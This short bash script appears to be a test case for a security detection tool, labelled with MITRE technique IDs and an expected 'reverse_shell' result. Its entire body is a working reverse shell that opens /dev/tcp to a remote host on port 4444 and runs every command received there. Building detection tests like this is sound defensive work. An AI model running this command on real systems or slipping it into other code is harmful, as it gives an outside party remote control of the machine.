#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059.004 Unix Shell; T1095 Non-Application Layer Protocol
# behaviour: opens a read-write descriptor on /dev/tcp with exec 3<> and runs a shell loop reading commands from it (no -i, no nc)
# as: user
# needs: remote
# expect: reverse_shell
set -u
timeout 20 bash -c 'exec 3<>/dev/tcp/'"$SNTL_REMOTE"'/4444; while read -r c <&3; do [ "$c" = exit ] && break; sh -c "$c" >&3 2>&3; done' 2>/dev/null || true
